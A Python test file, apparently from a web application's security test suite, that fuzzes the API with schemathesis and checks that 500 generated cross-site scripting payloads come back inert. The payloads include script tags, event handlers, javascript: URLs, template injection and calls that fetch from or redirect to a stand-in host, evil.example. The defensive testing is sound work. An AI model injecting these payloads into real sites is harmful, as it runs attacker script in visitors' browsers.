"""What nobody thought of: requests made up from the API's own description, and words that would like to be scripts."""

import html.parser
import json
import os
from collections.abc import Callable, Iterator
from itertools import islice, product
from pathlib import Path
from typing import Any

import pytest
import schemathesis
from desk_world import Team, copied
from hypothesis import HealthCheck, Phase, given, settings
from test_every_route import guarded, named, names_of

from marsad.desk.forms import HEADER
from marsad.desk.roles import Role

KNOWN = {200, 201, 204, 303, 400, 401, 403, 404, 405, 409, 413, 415, 422, 429}


@pytest.fixture(scope="module")
def team(twenty_incidents: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Team]:
    made = Team(copied(twenty_incidents, tmp_path_factory.mktemp("hostile")))
    yield made
    made.close()


@pytest.mark.long
@pytest.mark.parametrize(
    "requests", [150, pytest.param(int(os.environ.get("MARSAD_REQUESTS", "20000")), marks=pytest.mark.soak)]
)
def test_no_request_is_a_fault(team: Team, requests: int) -> None:
    """Requests that schemathesis makes up, fitting the description and not, with real names among them: no server error."""
    schema = schemathesis.openapi.from_dict(team.app.openapi())
    operations = [result.ok() for result in schema.get_all_operations()]  # type: ignore[union-attr]
    names, sent, faults = names_of(team, 0), 0, list[str]()
    client = team.as_(*Role, name="everything")

    def send(case: Any) -> None:
        nonlocal client, sent
        path = named_path(case, names) if sent % 2 else case.formatted_path
        told = {k: v for k, v in (case.headers or {}).items() if k != HEADER and _sendable(k, v)}
        body = None if isinstance(case.body, schemathesis.core.NotSet) else case.body
        raw = body if isinstance(body, bytes) else None if body is None else json.dumps(body).encode()
        told = {**told, "Content-Type": "application/json"} if raw is not None else told
        answer = client.request(case.method, path, params=case.query or None, content=raw, headers=told)
        sent += 1
        if answer.status_code not in KNOWN:
            faults.append(f"{case.method} {path} {answer.status_code}")
        if answer.status_code == 401:  # it changed its own password, or ended its own sessions
            client = team.as_(*Role, name="everything")

    for k, operation in enumerate(operations):
        each = (requests - sent) // (
            len(operations) - k
        )  # of some little can be asked: others take what these leave over
        if operation.path in ("/api/mode", "/api/accounts/{account_id}"):  # it would shut itself out
            continue
        modes = [schemathesis.GenerationMode.POSITIVE, schemathesis.GenerationMode.NEGATIVE]
        for mode in modes:
            strategy = operation.as_strategy(generation_mode=mode)
            count = max(1, each // len(modes))

            @settings(
                max_examples=count,
                database=None,
                phases=[Phase.generate],
                suppress_health_check=list(HealthCheck),
                derandomize=True,
            )
            @given(strategy)
            def one(case: Any) -> None:
                send(case)

            try:
                one()
            except Exception as fault:  # an operation that takes nothing has nothing to negate
                if type(fault).__name__ not in ("Unsatisfiable", "InvalidArgument"):
                    raise
    print(f"\n{sent} requests, {len(faults)} faults")  # noqa: T201
    assert faults == []
    assert sent > requests // 3


def named_path(case: Any, names: dict[str, str]) -> str:
    """Return the path of a case with real names in it."""
    path = case.path
    for part, value in names.items():
        path = path.replace("{" + part + "}", value)
    return path if "{" not in path else str(case.formatted_path)


def _sendable(name: str, value: Any) -> bool:
    try:
        return bool(name) and "\n" not in str(value) and str(value).encode("latin-1") is not None
    except UnicodeEncodeError:
        return False


def payloads() -> list[str]:
    """Return five hundred words that would run in a careless page: by tag, by attribute, by address, closing what is open."""
    ways = [
        "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<body onload={}>",
        "<iframe srcdoc='<script>{}</script>'>",
        '"><script>{}</script>', "'><img src=x onerror={}>", "</textarea><script>{}</script>", "</title><svg/onload={}>",
        "javascript:{}", "jAvAsCrIpT:{}", "data:text/html,<script>{}</script>", "<a href=javascript:{}>x</a>",
        "<math><mi xlink:href=javascript:{}>",
        "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}>",
        "<form action=javascript:{}><button>x</form>",
        "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<div hx-get=/sign-out hx-trigger=load>{}</div>",
        "<style>@import'{}'</style>",
        "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=//evil.example/{}>", "\u202e<script>{}</script>",
    ]  # fmt: skip
    acts = [
        "alert(1)",
        "alert`1`",
        "fetch('//evil.example')",
        "document.location='//evil.example'",
        "eval(atob('YWxlcnQoMSk='))",
    ]
    turns: list[Callable[[str], str]] = [
        str,
        str.upper,
        lambda w: w.replace("<", "\uff1c<"),
        lambda w: w.replace(" ", "\t"),
        lambda w: f"قُتل 12 {w}",
    ]
    made = [turn(way.format(act)) for turn, way, act in product(turns, ways, acts)]
    return list(islice(dict.fromkeys(made), 500))


class Page(html.parser.HTMLParser):
    """Collects what of a page could run: scripts with words in them, handlers, and addresses that are scripts."""

    def __init__(self) -> None:
        super().__init__()
        self.live: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at a tag."""
        told = dict(attrs)
        self._script = tag == "script" and "src" not in told
        if tag in ("base", "object", "embed", "math") or (tag == "iframe" and "srcdoc" in told):
            self.live.append(f"<{tag}>")
        for name, value in attrs:
            address = "".join((value or "").split()).casefold()
            if name.startswith("on") or address.startswith(("javascript:", "data:text/html")):
                self.live.append(f"{tag} {name}={value}")
            if "evil.example" in address and name in ("href", "src", "action", "hx-get", "hx-post"):
                self.live.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        """Look at words: in a script of the page's own they would run."""
        if self._script and data.strip():
            self.live.append(data)
        self._script = False


@pytest.mark.long
@pytest.mark.parametrize("share", [3, pytest.param(1, marks=pytest.mark.soak)], ids=["a third of them", "all"])
def test_no_word_comes_alive(team: Team, share: int) -> None:
    """(T6) Payloads kept in every field that takes words come back as words: in JSON, and in every page."""
    client = team.as_(*Role, name="everything")
    every, kept = payloads()[::share], 0  # five acts of a tag stand side by side: each tag is there in each disguise
    every = every[: len(every) // 4 * 4]
    for turn, start in enumerate(range(0, len(every), 4)):
        one, two, three, four = every[start : start + 4]
        names = names_of(team, 5 + turn % 15)
        at, code = names["anchor"], names["name"]
        seen = client.get(f"/api/claims/{at}").json()["version"]
        slots = {"perpetrator": one, "weapon": two, "attribution": [three, four]}
        body = {"kind": "correct", "slots": slots, "reason": three, "seen": seen}
        kept += 4 * (client.post(f"/api/claims/{at}/judgement", json=body).status_code == 200)
        if turn % 5 == 0:
            seen = client.get(f"/api/incidents/{code}").json()["version"]
            client.post(f"/api/incidents/{code}/grade", json={"grade": "fair", "reason": four, "seen": seen})
            pair = {"a": [one[:200], "1"], "b": ["b", two[:200]], "says": "unsure", "reason": three}
            client.post("/api/people/matches", json=pair)
            client.post("/api/accounts", json={"name": one[:80], "roles": [], "groups": [two[:80]]})
            client.post("/api/exports", json={"form": "tolls", "reason": three})
    assert kept == len(every)
    team.run()
    looked = 0
    for method, route in guarded(team):
        if method != "GET":
            continue
        for turn in range(5, 8):
            answer = client.get(named(route, names_of(team, turn)))
            kind = answer.headers.get("content-type", "")
            if kind.startswith("text/html"):
                page = Page()
                page.feed(answer.text)
                assert page.live == [], route.path
            elif kind.startswith(
                ("text/plain", "image/")
            ):  # an original as it came: apart from the desk, and run by nobody
                assert "sandbox" in answer.headers["content-security-policy"], route.path
                assert answer.headers["x-content-type-options"] == "nosniff"
            elif answer.status_code == 200:
                assert kind.startswith(("application/json", "application/octet-stream")), f"{route.path} {kind}"
            looked += 1
    assert looked > 30


def test_there_are_five_hundred_payloads() -> None:
    """The list is what it says it is, and a page that a payload got into would be noticed."""
    assert len(payloads()) == 500
    page = Page()
    page.feed("<p>" + payloads()[1] + "</p>")
    assert page.live
